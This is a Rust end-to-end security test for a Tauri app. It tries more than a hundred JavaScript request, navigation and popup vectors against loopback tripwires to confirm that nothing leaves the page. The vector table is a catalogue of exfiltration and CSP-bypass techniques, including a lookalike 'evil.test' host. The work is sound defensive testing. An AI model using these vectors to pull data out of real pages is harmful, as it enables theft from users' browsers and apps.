//! "Nothing leaves the page" (security issue, item 5), end to end in the real app under
//! Xvfb: every way we know for a page to send a request or navigate is tried, one at a
//! time, against loopback tripwires that count every TCP connection (and UDP datagram)
//! they receive. Run with `cargo test --features e2e --test leak_e2e -- --test-threads=1`
//! (add `--nocapture` to see the per-vector table).
//!
//! Two pages are tested:
//!
//! - the main window (the app's own page, under the strict CSP from `tauri.conf.json`, the
//!   navigation guard and the new-window denial): nothing may reach a tripwire, whatever
//!   the vector, and the page must still be the app afterwards;
//! - a page placed in the room window's position (`show_room` with the e2e-only
//!   `SERENE_TEST_ROOM_ORIGIN` and `SERENE_TEST_ROOM_PRESENTATION=window`). That page is remote by design (Daily Prebuilt) and has no
//!   CSP of ours (Tauri injects the configured CSP into the app's own assets only), so its
//!   own subresource loads are *not* our boundary: they are tried and recorded, not
//!   asserted. What the app does promise for that window, and what is asserted, is: no
//!   navigation away from the room's origin, no new windows, and no way into the IPC bridge.
//!
//! A connection to a tripwire is a leak even if it carries no byte: the host name alone
//! can carry data (through DNS), and the connection says the page is there. Leaks are
//! collected, so one run shows the whole matrix, and fail the test at the end; a
//! navigation or a new window fails it at once (the page, or the driver, would be gone).
//!
//! Known, and accepted for now (SECURITY.md, "What we do not defend against"): WebKitGTK
//! opens a TCP connection for `<link rel=preconnect>` (CSP does not govern preconnect) and
//! for an activated `<a href>` (a speculative preconnect made before the app's navigation
//! or new-window handler refuses the navigation), in both windows. For exactly those
//! vectors the test accepts a connection that carries no request (nothing sent, or a TLS
//! handshake); a request line from them, or any connection from any other vector, fails.
#![cfg(feature = "e2e")]

mod support;

use std::io::Read;
use std::net::{TcpListener, TcpStream, UdpSocket};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use serde_json::Value;
use support::app::App;
use support::fakes::Fakes;
use support::flows::{launch_with, ready, start_session};
use thirtyfour::prelude::*;
use wiremock::matchers::{method, path};
use wiremock::{Mock, MockServer, ResponseTemplate};

/// A loopback listener that counts every connection attempt it receives: TCP on
/// 127.0.0.1 and, when the port is free there too, on [::1] (so `localhost` lands here
/// whichever address it resolves to), and UDP on 127.0.0.1 (STUN). Each connection's
/// first line is kept, so a failure says which vector leaked.
struct Tripwire {
    port: u16,
    ipv6: bool,
    udp: bool,
    hits: Arc<AtomicUsize>,
    log: Arc<Mutex<Vec<String>>>,
}

impl Tripwire {
    fn start() -> Tripwire {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let hits = Arc::new(AtomicUsize::new(0));
        let log = Arc::new(Mutex::new(Vec::new()));
        Self::watch_tcp(listener, "tcp4", &hits, &log);
        let ipv6 = match TcpListener::bind(("::1", port)) {
            Ok(listener) => {
                Self::watch_tcp(listener, "tcp6", &hits, &log);
                true
            }
            Err(_) => false,
        };
        let udp = match UdpSocket::bind(("127.0.0.1", port)) {
            Ok(socket) => {
                let (hits, log) = (hits.clone(), log.clone());
                std::thread::spawn(move || {
                    let mut buf = [0u8; 2048];
                    while let Ok((n, _)) = socket.recv_from(&mut buf) {
                        hits.fetch_add(1, Ordering::SeqCst);
                        log.lock().unwrap().push(format!("udp {n} bytes"));
                    }
                });
                true
            }
            Err(_) => false,
        };
        let tripwire = Tripwire {
            port,
            ipv6,
            udp,
            hits,
            log,
        };
        tripwire.self_test();
        tripwire
    }

    fn watch_tcp(
        listener: TcpListener,
        label: &'static str,
        hits: &Arc<AtomicUsize>,
        log: &Arc<Mutex<Vec<String>>>,
    ) {
        let (hits, log) = (hits.clone(), log.clone());
        std::thread::spawn(move || {
            for mut stream in listener.incoming().flatten() {
                // Counted and logged the moment it is accepted; the details follow.
                hits.fetch_add(1, Ordering::SeqCst);
                let index = {
                    let mut log = log.lock().unwrap();
                    log.push(format!("{label} (accepted)"));
                    log.len() - 1
                };
                let log = log.clone();
                std::thread::spawn(move || {
                    // Every request line the connection carries (a pooled connection may
                    // carry several), until it has been quiet for a moment.
                    let mut lines = Vec::new();
                    let mut buf = [0u8; 4096];
                    let _ = stream.set_read_timeout(Some(Duration::from_millis(300)));
                    while let Ok(n @ 1..) = stream.read(&mut buf) {
                        lines.push(match &buf[..n] {
                            [0x16, ..] => "(TLS handshake)".to_string(),
                            bytes => String::from_utf8_lossy(bytes)
                                .lines()
                                .next()
                                .unwrap_or_default()
                                .chars()
                                .take(160)
                                .collect(),
                        });
                    }
                    let what = if lines.is_empty() {
                        "(connected, sent nothing)".to_string()
                    } else {
                        lines.join(" + ")
                    };
                    if let Some(entry) = log.lock().unwrap().get_mut(index) {
                        *entry = format!("{label} {what}");
                    }
                });
            }
        });
    }

    /// The tripwire really sees connections (so a zero later means something), then
    /// starts counting from zero.
    fn self_test(&self) {
        let mut expected = 1;
        drop(TcpStream::connect(("127.0.0.1", self.port)).unwrap());
        if self.ipv6 {
            drop(TcpStream::connect(("::1", self.port)).unwrap());
            expected += 1;
        }
        if self.udp {
            let socket = UdpSocket::bind("127.0.0.1:0").unwrap();
            socket
                .send_to(b"self-test", ("127.0.0.1", self.port))
                .unwrap();
            expected += 1;
        }
        let deadline = Instant::now() + Duration::from_secs(5);
        while self
            .log
            .lock()
            .unwrap()
            .iter()
            .filter(|e| !e.ends_with("(accepted)"))
            .count()
            < expected
        {
            assert!(
                Instant::now() < deadline,
                "the tripwire missed its own test"
            );
            std::thread::sleep(Duration::from_millis(20));
        }
        self.hits.store(0, Ordering::SeqCst);
        self.log.lock().unwrap().clear();
    }

    fn hits(&self) -> usize {
        self.hits.load(Ordering::SeqCst)
    }

    fn log(&self) -> Vec<String> {
        self.log.lock().unwrap().clone()
    }

    fn url(&self, path: &str) -> String {
        format!("http://127.0.0.1:{}/{path}", self.port)
    }
}

/// How a vector is run and what is checked after it.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Kind {
    /// A request or subresource load made by the page itself.
    Request,
    /// A navigation of the page (or of its frame) away from it.
    Navigation,
    /// Needs a real (trusted) click: WebKit's own popup blocker refuses `window.open`
    /// without a user gesture, which would hide the app's new-window denial. The script
    /// puts an element `#leak-target` on the page; the test clicks it through WebDriver and
    /// reads `window.__leakOutcome`.
    Gesture,
}

use Kind::{Gesture, Navigation, Request};

/// `(name, kind, async JS body)`. The body runs after [`prelude`] and returns a short
/// description of what the page saw. `U`, `L`, `V6`, `S` aim at tripwire A (127.0.0.1,
/// localhost, [::1], https); `B` and `W`/`WL` at tripwire B (http, ws://127.0.0.1,
/// ws://localhost); `HOST`/`PORT` are tripwire A's. Every URL's path names the vector.
const VECTORS: &[(&str, Kind, &str)] = &[
    // --- fetch, XHR, sockets, event streams, beacons -------------------------------
    ("fetch GET", Request, "return attempt(async () => 'status ' + (await fetch(U)).status);"),
    ("fetch POST", Request, "return attempt(async () => 'status ' + (await fetch(U, { method: 'POST', body: 'leak' })).status);"),
    ("fetch no-cors", Request, "return attempt(async () => 'type ' + (await fetch(U, { mode: 'no-cors' })).type);"),
    ("fetch keepalive", Request, "return attempt(async () => 'status ' + (await fetch(U, { method: 'POST', body: 'leak', keepalive: true })).status);"),
    ("fetch http://localhost", Request, "return attempt(async () => 'status ' + (await fetch(L)).status);"),
    ("fetch http://[::1]", Request, "return attempt(async () => 'status ' + (await fetch(V6)).status);"),
    ("fetch https://", Request, "return attempt(async () => 'status ' + (await fetch(S)).status);"),
    ("fetch second port", Request, "return attempt(async () => 'status ' + (await fetch(B)).status);"),
    ("fetch Request object PUT", Request, "return attempt(async () => 'status ' + (await fetch(new Request(U, { method: 'PUT', body: 'leak' }))).status);"),
    ("fetch ipc.localhost with the tripwire port", Request, "return attempt(async () => 'status ' + (await fetch('http://ipc.localhost:' + PORT + '/' + TAG)).status);"),
    ("fetch ipc.localhost lookalike host", Request, "return attempt(async () => 'status ' + (await fetch('http://ipc.localhost.evil.test:' + PORT + '/' + TAG)).status);"),
    ("fetch ipc.localhost as userinfo", Request, "return attempt(async () => 'status ' + (await fetch('http://ipc.localhost@' + HOST + '/' + TAG)).status);"),
    ("fetch protocol-relative", Request, "return attempt(async () => 'status ' + (await fetch('//' + HOST + '/' + TAG)).status);"),
    ("XMLHttpRequest async", Request, "return await new Promise((r) => { const x = new XMLHttpRequest(); try { x.open('POST', U); x.onload = () => r('load ' + x.status); x.onerror = () => r('error event'); x.send('leak'); } catch (e) { r('threw ' + name(e)); } setTimeout(() => r('no event'), 1000); });"),
    ("XMLHttpRequest sync", Request, "return attempt(() => { const x = new XMLHttpRequest(); x.open('GET', U, false); x.send(); return 'status ' + x.status; });"),
    ("WebSocket ws://127.0.0.1", Request, "return await socket(W);"),
    ("WebSocket ws://localhost", Request, "return await socket(WL);"),
    ("WebSocket wss://", Request, "return await socket('wss://' + HOST + '/' + TAG);"),
    ("EventSource", Request, "let es; const r = await new Promise((res) => { try { es = new EventSource(U); } catch (e) { return res('threw ' + name(e)); } es.onopen = () => res('open'); es.onerror = () => res('error event, readyState ' + es.readyState); setTimeout(() => res('no event'), 700); }); if (es) es.close(); return r;"),
    ("navigator.sendBeacon string", Request, "return attempt(() => 'returned ' + navigator.sendBeacon(U, 'leak'));"),
    ("navigator.sendBeacon Blob", Request, "return attempt(() => 'returned ' + navigator.sendBeacon(B, new Blob(['leak'], { type: 'text/plain' })));"),
    ("WebTransport", Request, "if (typeof WebTransport === 'undefined') return 'API absent'; return attempt(async () => { const t = new WebTransport(S); await t.ready; return 'ready'; });"),
    ("Cache API add", Request, "if (typeof caches === 'undefined') return 'API absent'; return attempt(async () => { const c = await caches.open('leak'); await c.add(U); return 'added'; });"),
    // --- images ---------------------------------------------------------------------
    ("new Image().src", Request, "const i = new Image(); i.src = U; return await watch(i);"),
    ("<img src>", Request, "const d = mount(`<img src=\"${U}\">`); return await watch(d.firstChild);"),
    ("<img srcset>", Request, "const d = mount(`<img srcset=\"${U} 1x\">`); return await watch(d.firstChild);"),
    ("<picture><source srcset>", Request, "const d = mount(`<picture><source srcset=\"${U}\"><img alt=\"\"></picture>`); return await watch(d.querySelector('img'));"),
    ("<input type=image>", Request, "const d = mount(`<input type=\"image\" alt=\"x\" src=\"${U}\">`); return await watch(d.firstChild);"),
    ("<video poster>", Request, "const d = mount(`<video poster=\"${U}\"></video>`); await sleep(600); return 'waited';"),
    ("SVG <image href>", Request, "const d = mount(`<svg width=\"20\" height=\"20\"><image href=\"${U}\" width=\"20\" height=\"20\"/></svg>`); return await watch(d.querySelector('image'));"),
    ("SVG <use href>", Request, "const d = mount(`<svg width=\"20\" height=\"20\"><use href=\"${U}#x\"/></svg>`); await sleep(600); return 'waited';"),
    ("SVG <feImage>", Request, "const d = mount(`<svg width=\"20\" height=\"20\"><filter id=\"leakf\"><feImage href=\"${U}\"/></filter><rect width=\"20\" height=\"20\" filter=\"url(#leakf)\"/></svg>`); await sleep(600); return 'waited';"),
    // --- scripts ----------------------------------------------------------------------
    ("<script src>", Request, "const s = document.createElement('script'); s.src = U; document.head.appendChild(s); const r = await watch(s); s.remove(); return r;"),
    ("<script type=module src>", Request, "const s = document.createElement('script'); s.type = 'module'; s.src = U; document.head.appendChild(s); const r = await watch(s); s.remove(); return r;"),
    ("dynamic import()", Request, "return attempt(async () => { await import(U); return 'imported'; });"),
    ("<script type=speculationrules>", Request, "const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [U] }] }); document.head.appendChild(s); await sleep(600); s.remove(); return 'supports: ' + (HTMLScriptElement.supports ? HTMLScriptElement.supports('speculationrules') : 'unknown');"),
    // --- styles and fonts -------------------------------------------------------------
    ("<link rel=stylesheet>", Request, "return await link({ rel: 'stylesheet', href: U });"),
    ("<style> @import", Request, "const s = document.createElement('style'); s.textContent = `@import url(\"${U}\");`; document.head.appendChild(s); const r = await watch(s); s.remove(); return r;"),
    ("<style> @font-face and background-image", Request, "const s = document.createElement('style'); s.textContent = `@font-face { font-family: leakA; src: url(\"${U}\"); } .leak-probe { font-family: leakA; background-image: url(\"${B}\"); }`; document.head.appendChild(s); mount('leak text'); await sleep(700); const applied = s.sheet ? s.sheet.cssRules.length : 'no sheet'; s.remove(); return 'rules applied: ' + applied;"),
    ("constructed CSSStyleSheet (adoptedStyleSheets)", Request, "if (!document.adoptedStyleSheets) return 'API absent'; const s = new CSSStyleSheet(); s.replaceSync(`@font-face { font-family: leakB; src: url(\"${U}\"); } .leak-probe { font-family: leakB; background-image: url(\"${B}\"); }`); const old = document.adoptedStyleSheets; document.adoptedStyleSheets = [...old, s]; mount('leak text'); await sleep(700); document.adoptedStyleSheets = old; return 'adopted ' + s.cssRules.length + ' rules';"),
    ("constructed CSSStyleSheet replace() with @import", Request, "if (typeof CSSStyleSheet.prototype.replace !== 'function') return 'API absent'; return attempt(async () => { const s = new CSSStyleSheet(); await s.replace(`@import url(\"${U}\"); .x{}`); return s.cssRules.length + ' rules'; });"),
    ("insertRule into the app's stylesheet", Request, "const sheet = [...document.styleSheets].find((s) => { try { return s.cssRules; } catch (e) { return false; } }); if (!sheet) return 'no sheet'; const n = sheet.cssRules.length; sheet.insertRule(`.leak-probe { background-image: url(\"${U}\"); }`, n); sheet.insertRule(`@font-face { font-family: leakC; src: url(\"${B}\"); }`, n); mount('leak').style.fontFamily = 'leakC'; await sleep(700); sheet.deleteRule(n); sheet.deleteRule(n); return 'inserted';"),
    ("FontFace API (document.fonts.add + load)", Request, "if (typeof FontFace === 'undefined') return 'API absent'; const f = new FontFace('leakD', `url(\"${U}\")`); document.fonts.add(f); const r = await attempt(async () => { await f.load(); return 'loaded'; }); document.fonts.delete(f); return r + ', status ' + f.status;"),
    ("element.style background-image (CSSOM)", Request, "const d = mount('leak'); d.style.backgroundImage = `url(\"${U}\")`; await sleep(600); return 'set: ' + (d.style.backgroundImage !== '');"),
    ("element.style cursor/list-style/border-image/mask (CSSOM)", Request, "const d = mount('<ul><li>leak</li></ul>'); d.style.cursor = `url(\"${U}-cursor\"), auto`; d.style.listStyleImage = `url(\"${U}-list\")`; d.style.borderStyle = 'solid'; d.style.borderImage = `url(\"${U}-border\") 30 round`; d.style.webkitMaskImage = `url(\"${B}-mask\")`; d.style.setProperty('mask-image', `url(\"${B}-mask2\")`); await sleep(700); return 'set';"),
    ("style attribute (innerHTML)", Request, "mount(`<div style=\"background-image: url('${U}')\">leak</div>`); await sleep(600); return 'inserted';"),
    // --- frames, objects, media ---------------------------------------------------------
    ("<iframe src>", Request, "const d = mount(`<iframe src=\"${U}\"></iframe>`); return await watch(d.firstChild, 600);"),
    ("<iframe srcdoc> with <img>", Request, "const d = mount(`<iframe srcdoc='<img src=\"${U}\">'></iframe>`); return await watch(d.firstChild, 600);"),
    ("about:blank <iframe> written to", Request, "const f = document.createElement('iframe'); mount('').appendChild(f); return attempt(async () => { const doc = f.contentDocument; if (!doc) return 'no document'; doc.open(); doc.write(`<img src=\"${U}\">`); doc.close(); await sleep(600); return 'written'; });"),
    ("<frame src>", Request, "const f = document.createElement('frame'); f.src = U; mount('').appendChild(f); await sleep(600); return 'appended';"),
    ("<object data>", Request, "const d = mount(`<object data=\"${U}\" type=\"text/html\"></object>`); return await watch(d.firstChild, 600);"),
    ("<object data> no type", Request, "const d = mount(`<object data=\"${B}\"></object>`); return await watch(d.firstChild, 600);"),
    ("<embed src>", Request, "const d = mount(`<embed src=\"${U}\" type=\"text/html\">`); return await watch(d.firstChild, 600);"),
    ("<audio src>", Request, "const d = mount(`<audio preload=\"auto\" src=\"${U}\"></audio>`); d.firstChild.load(); return await watch(d.firstChild, 600);"),
    ("<video src>", Request, "const d = mount(`<video preload=\"auto\" src=\"${U}\"></video>`); d.firstChild.load(); return await watch(d.firstChild, 600);"),
    ("<video><source src>", Request, "const d = mount(`<video preload=\"auto\"><source src=\"${U}\" type=\"video/mp4\"></video>`); d.firstChild.load(); return await watch(d.querySelector('source'), 600);"),
    ("<track src>", Request, "const d = mount(`<video preload=\"auto\" src=\"data:,\"><track default kind=\"captions\" src=\"${U}\"></video>`); const t = d.querySelector('track'); t.track.mode = 'showing'; return await watch(t, 600);"),
    ("new Audio(url).play()", Request, "return attempt(async () => { await new Audio(U).play(); return 'playing'; });"),
    // --- workers and worklets ---------------------------------------------------------
    ("Worker with a remote URL", Request, "return attempt(async () => { const w = new Worker(U); await sleep(500); w.terminate(); return 'constructed'; });"),
    ("module Worker with a remote URL", Request, "return attempt(async () => { const w = new Worker(U, { type: 'module' }); await sleep(500); w.terminate(); return 'constructed'; });"),
    ("SharedWorker with a remote URL", Request, "if (typeof SharedWorker === 'undefined') return 'API absent'; return attempt(async () => { new SharedWorker(U); await sleep(500); return 'constructed'; });"),
    ("ServiceWorker.register with a remote URL", Request, "if (!navigator.serviceWorker) return 'API absent'; return attempt(async () => { await navigator.serviceWorker.register(U); return 'registered'; });"),
    ("blob: Worker that fetches", Request, "return await worker(`fetch(${JSON.stringify(U)}).then(() => postMessage('reached'), (e) => postMessage('fetch failed: ' + e))`);"),
    ("blob: Worker importScripts", Request, "return await worker(`try { importScripts(${JSON.stringify(U)}); postMessage('imported'); } catch (e) { postMessage('importScripts threw ' + e.name); }`);"),
    ("blob: Worker WebSocket", Request, "return await worker(`try { const s = new WebSocket(${JSON.stringify(W)}); s.onopen = () => postMessage('open'); s.onerror = () => postMessage('error event'); } catch (e) { postMessage('threw ' + e.name); }`);"),
    ("data: Worker that fetches", Request, "return attempt(async () => { const w = new Worker('data:text/javascript,' + encodeURIComponent(`fetch(${JSON.stringify(U)})`)); await sleep(500); w.terminate(); return 'constructed'; });"),
    ("AudioWorklet addModule", Request, "const C = window.AudioContext || window.webkitAudioContext; if (!C) return 'API absent'; const ctx = new C(); if (!ctx.audioWorklet) { ctx.close(); return 'API absent'; } const r = await attempt(async () => { await ctx.audioWorklet.addModule(U); return 'added'; }); ctx.close(); return r;"),
    ("CSS.paintWorklet addModule", Request, "if (typeof CSS === 'undefined' || !CSS.paintWorklet) return 'API absent'; return attempt(async () => { await CSS.paintWorklet.addModule(U); return 'added'; });"),
    // --- resource hints ----------------------------------------------------------------
    ("<link rel=prefetch>", Request, "return await link({ rel: 'prefetch', href: U });"),
    ("<link rel=preload as=fetch>", Request, "return await link({ rel: 'preload', as: 'fetch', href: U, crossOrigin: 'anonymous' });"),
    ("<link rel=preload as=image>", Request, "return await link({ rel: 'preload', as: 'image', href: U });"),
    ("<link rel=preload as=font>", Request, "return await link({ rel: 'preload', as: 'font', href: U, crossOrigin: 'anonymous' });"),
    ("<link rel=preload as=script>", Request, "return await link({ rel: 'preload', as: 'script', href: U });"),
    ("<link rel=preconnect>", Request, "return await link({ rel: 'preconnect', href: B });"),
    ("<link rel=preconnect> https", Request, "return await link({ rel: 'preconnect', href: 'https://' + HOST });"),
    ("<link rel=preconnect> localhost name", Request, "return await link({ rel: 'preconnect', href: 'http://localhost:' + PORT, crossOrigin: 'anonymous' });"),
    ("<link rel=preconnect> from a timer", Request, "setTimeout(() => { const l = document.createElement('link'); l.rel = 'preconnect'; l.href = B; document.head.appendChild(l); setTimeout(() => l.remove(), 400); }, 0); await sleep(500); return 'added from a timer';"),
    ("<link rel=dns-prefetch>", Request, "return await link({ rel: 'dns-prefetch', href: L });"),
    ("<link rel=modulepreload>", Request, "return await link({ rel: 'modulepreload', href: U });"),
    ("<link rel=prerender>", Request, "return await link({ rel: 'prerender', href: U });"),
    ("<link rel=icon>", Request, "return await link({ rel: 'icon', href: U });"),
    ("<link rel=manifest>", Request, "return await link({ rel: 'manifest', href: U });"),
    // --- other ways to make a request -------------------------------------------------
    ("<a ping> (same-page link)", Request, "const before = location.href; const d = mount(`<a href=\"#leak-ping\" ping=\"${U}\">ping</a>`); d.firstChild.click(); await sleep(600); history.replaceState(history.state, '', before); return 'clicked';"),
    ("<base href> then relative fetch and image", Request, "const b = document.createElement('base'); b.href = U + '/'; document.head.appendChild(b); const base = document.baseURI; const f = await attempt(async () => 'status ' + (await fetch('relative')).status); const i = new Image(); i.src = 'relative.png'; const img = await watch(i); b.remove(); return `baseURI ${base === location.href ? 'unchanged' : base}; fetch ${f}; img ${img}`;"),
    ("RTCPeerConnection STUN/TURN", Request, "if (typeof RTCPeerConnection === 'undefined' && typeof webkitRTCPeerConnection === 'undefined') return 'API absent'; return attempt(async () => { const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + HOST }, { urls: 'turn:' + HOST + '?transport=tcp', username: 'u', credential: 'c' }, { urls: 'turn:' + HOST + '?transport=udp', username: 'u', credential: 'c' }] }); pc.createDataChannel('leak'); await pc.setLocalDescription(await pc.createOffer()); await sleep(1200); const state = pc.iceGatheringState; pc.close(); return 'gathering ' + state; });"),
    ("Notification with icon/image", Request, "if (typeof Notification === 'undefined') return 'API absent'; return attempt(async () => { const n = new Notification('leak', { icon: U, image: B, badge: U + '-badge' }); await sleep(500); n.close(); return 'permission ' + Notification.permission; });"),
    ("MediaSession artwork", Request, "if (!navigator.mediaSession || typeof MediaMetadata === 'undefined') return 'API absent'; return attempt(async () => { navigator.mediaSession.metadata = new MediaMetadata({ title: 'leak', artwork: [{ src: U, sizes: '96x96' }] }); await sleep(500); navigator.mediaSession.metadata = null; return 'set'; });"),
    ("DOMParser document with <img>", Request, "const doc = new DOMParser().parseFromString(`<img src=\"${U}\"><link rel=stylesheet href=\"${B}\">`, 'text/html'); await sleep(500); return 'parsed ' + doc.images.length + ' image';"),
    ("createHTMLDocument with <img>", Request, "const doc = document.implementation.createHTMLDocument('leak'); doc.body.innerHTML = `<img src=\"${U}\">`; await sleep(500); return 'built';"),
    ("document.domain", Request, "return attempt(() => { document.domain = '127.0.0.1'; return 'set to ' + document.domain; });"),
    ("postMessage to opener and parent", Request, "const o = window.opener === null ? 'no opener' : 'has opener'; const p = window.parent === window ? 'top-level' : 'framed'; window.postMessage('leak', '*'); return o + ', ' + p;"),
    ("navigator.clipboard.writeText", Request, "if (!navigator.clipboard) return 'API absent'; return attempt(async () => { await navigator.clipboard.writeText(U); return 'written'; });"),
    ("<meta> CSP with report-uri", Request, "const m = document.createElement('meta'); m.httpEquiv = 'Content-Security-Policy'; m.content = `worker-src 'none'; report-uri ${U}`; document.head.appendChild(m); const r = await attempt(async () => { const w = new Worker('/leak-never.js'); await sleep(300); w.terminate(); return 'constructed'; }); await sleep(400); return 'added; worker ' + r;"),
    // --- navigation ---------------------------------------------------------------------
    ("location.href =", Navigation, "return attempt(() => { location.href = U; });"),
    ("location.assign", Navigation, "return attempt(() => { location.assign(U); });"),
    ("location.replace", Navigation, "return attempt(() => { location.replace(B); });"),
    ("location.host =", Navigation, "return attempt(() => { location.host = HOST; });"),
    ("location.port =", Navigation, "return attempt(() => { location.port = PORT; });"),
    ("document.location =", Navigation, "return attempt(() => { document.location = L; });"),
    ("top.location =", Navigation, "return attempt(() => { top.location = U; });"),
    ("window.open(url, '_self')", Navigation, "return attempt(() => { const w = window.open(U, '_self'); return w === null ? 'returned null' : 'returned a window'; });"),
    ("location to a data: URL with <img>", Navigation, "return attempt(() => { location.href = 'data:text/html,' + encodeURIComponent(`<img src=\"${U}\">`); });"),
    ("location to a javascript: URL", Navigation, "return attempt(() => { location.href = `javascript:fetch(${JSON.stringify(U)})`; });"),
    ("<a href> click", Navigation, "const d = mount(`<a href=\"${U}\">go</a>`); d.firstChild.click(); return 'clicked';"),
    ("<a href> click from a timer (no user gesture)", Navigation, "setTimeout(() => mount(`<a href=\"${B}\">go</a>`).firstChild.click(), 1100); await sleep(1150); return 'clicked 1.1 s later';"),
    ("<a download> click", Navigation, "const d = mount(`<a href=\"${U}\" download=\"leak.txt\">get</a>`); d.firstChild.click(); return 'clicked';"),
    ("SVG <a> click", Navigation, "const d = mount(`<svg width=\"20\" height=\"20\"><a href=\"${U}\"><rect width=\"20\" height=\"20\"/></a></svg>`); d.querySelector('rect').dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true })); return 'clicked';"),
    ("form GET submit", Navigation, "const d = mount(`<form action=\"${U}\" method=\"get\"><input name=\"q\" value=\"leak\"></form>`); return attempt(() => { d.firstChild.submit(); });"),
    ("form POST submit", Navigation, "const d = mount(`<form action=\"${B}\" method=\"post\"><input name=\"q\" value=\"leak\"></form>`); return attempt(() => { d.firstChild.submit(); });"),
    ("form.requestSubmit", Navigation, "const d = mount(`<form action=\"${U}\" method=\"post\"><input name=\"q\" value=\"leak\"><button>send</button></form>`); return attempt(() => { d.firstChild.requestSubmit(); });"),
    ("<button formaction> click", Navigation, "const d = mount(`<form action=\"#\"><button formaction=\"${U}\" formmethod=\"post\">send</button></form>`); d.querySelector('button').click(); return 'clicked';"),
    ("<meta http-equiv=refresh>", Navigation, "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + U; document.head.appendChild(m); await sleep(700); m.remove(); return 'inserted';"),
    ("history.pushState to another origin", Navigation, "return attempt(() => { history.pushState(null, '', U); });"),
    ("history.replaceState to another origin", Navigation, "return attempt(() => { history.replaceState(null, '', B); });"),
    // --- new windows (a trusted click, so WebKit's popup blocker is not what stops them) --
    ("window.open on a click", Gesture, "return target('button', (el) => el.addEventListener('click', () => { const w = window.open(U); window.__leakOutcome = w === null ? 'returned null' : 'returned a window'; }));"),
    ("window.open popup features on a click", Gesture, "return target('button', (el) => el.addEventListener('click', () => { const w = window.open(L, 'leak', 'popup,width=200,height=200'); window.__leakOutcome = w === null ? 'returned null' : 'returned a window'; }));"),
    ("window.open about:blank then navigate it", Gesture, "return target('button', (el) => el.addEventListener('click', () => { const w = window.open('about:blank'); if (w) { try { w.location = U; window.__leakOutcome = 'navigated the popup'; } catch (e) { window.__leakOutcome = 'threw ' + name(e); } } else window.__leakOutcome = 'returned null'; }));"),
    ("<a target=_blank> click", Gesture, "return target('a', (el) => { el.href = U; el.target = '_blank'; el.rel = 'opener'; });"),
    ("<a target=_blank rel=noopener> click", Gesture, "return target('a', (el) => { el.href = B; el.target = '_blank'; el.rel = 'noopener noreferrer'; });"),
    ("form target=_blank submit on a click", Gesture, "return target('button', (el) => { const f = document.createElement('form'); f.action = U; f.method = 'post'; f.target = '_blank'; f.className = 'leak-probe'; document.body.appendChild(f); el.type = 'submit'; f.appendChild(el); });"),
];

/// Vectors also tried from the room page as its own subresource loads, which are not our
/// boundary there (a remote page with no CSP of ours): recorded, not asserted.
const ROOM_SUBRESOURCES: &[&str] = &[
    "fetch GET",
    "XMLHttpRequest async",
    "WebSocket ws://127.0.0.1",
    "EventSource",
    "navigator.sendBeacon string",
    "<img src>",
    "<script src>",
    "<link rel=stylesheet>",
    "<iframe src>",
    "<object data>",
    "blob: Worker that fetches",
    "<link rel=preconnect>",
    "<a ping> (same-page link)",
    "RTCPeerConnection STUN/TURN",
];

/// Vectors for which WebKit is known to open a connection that carries no request.
const KNOWN_PRECONNECTS: &[&str] = &[
    "<link rel=preconnect>",
    "<link rel=preconnect> https",
    "<link rel=preconnect> localhost name",
    "<link rel=preconnect> from a timer",
    "<a href> click",
    "<a href> click from a timer (no user gesture)",
    "<a download> click",
    "<a target=_blank> click",
    "<a target=_blank rel=noopener> click",
];

/// Whether `reached` is only WebKit's known speculative connection for `vector`: no
/// request line was sent.
fn only_known_preconnect(vector: &str, reached: &[String]) -> bool {
    KNOWN_PRECONNECTS.contains(&vector)
        && reached.iter().all(|r| {
            r.ends_with("(connected, sent nothing)")
                || r.ends_with("(accepted)")
                || r.ends_with("(TLS handshake)")
        })
}

/// Helpers every vector can use, and the tripwire URLs, named for the vector.
fn prelude(tag: &str, a: &Tripwire, b: &Tripwire) -> String {
    let (pa, pb) = (a.port, b.port);
    format!(
        r#"const TAG = "{tag}";
const U = "http://127.0.0.1:{pa}/" + TAG, L = "http://localhost:{pa}/" + TAG,
  V6 = "http://[::1]:{pa}/" + TAG, S = "https://127.0.0.1:{pa}/" + TAG,
  B = "http://127.0.0.1:{pb}/" + TAG, W = "ws://127.0.0.1:{pb}/" + TAG,
  WL = "ws://localhost:{pb}/" + TAG, HOST = "127.0.0.1:{pa}", PORT = "{pa}";
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
const name = (e) => (e && e.name) || String(e);
const attempt = async (f) => {{
  try {{ const v = await f(); return v === undefined ? 'no error' : String(v); }}
  catch (e) {{ return 'threw ' + name(e); }}
}};
const watch = (el, ms = 400) => new Promise((r) => {{
  const t = setTimeout(() => r('no load/error event'), ms);
  el.addEventListener('load', () => {{ clearTimeout(t); r('load event'); }}, {{ once: true }});
  el.addEventListener('error', () => {{ clearTimeout(t); r('error event'); }}, {{ once: true }});
}});
const mount = (html) => {{
  const d = document.createElement('div'); d.className = 'leak-probe'; d.innerHTML = html;
  document.body.appendChild(d); return d;
}};
const link = async (attrs) => {{
  const l = document.createElement('link'); Object.assign(l, attrs); document.head.appendChild(l);
  const r = await watch(l); l.remove(); return r;
}};
const socket = (url) => new Promise((r) => {{
  let s; try {{ s = new WebSocket(url); }} catch (e) {{ return r('threw ' + name(e)); }}
  s.onopen = () => {{ r('open'); s.close(); }}; s.onerror = () => r('error event');
  setTimeout(() => {{ r('no event'); try {{ s.close(); }} catch (e) {{}} }}, 700);
}});
const worker = (source) => new Promise((r) => {{
  let w; try {{ w = new Worker(URL.createObjectURL(new Blob([source], {{ type: 'text/javascript' }}))); }}
  catch (e) {{ return r('threw ' + name(e)); }}
  w.onmessage = (m) => {{ r('worker says: ' + m.data); w.terminate(); }};
  w.onerror = () => {{ r('worker error event'); w.terminate(); }};
  setTimeout(() => {{ r('no message'); w.terminate(); }}, 900);
}});
const target = (tag, setup) => {{
  window.__leakOutcome = 'clicked';
  const el = document.createElement(tag); el.id = 'leak-target'; el.textContent = 'leak target';
  setup(el);
  if (!el.isConnected) {{ const d = mount(''); d.appendChild(el); }}
  return 'ready';
}};
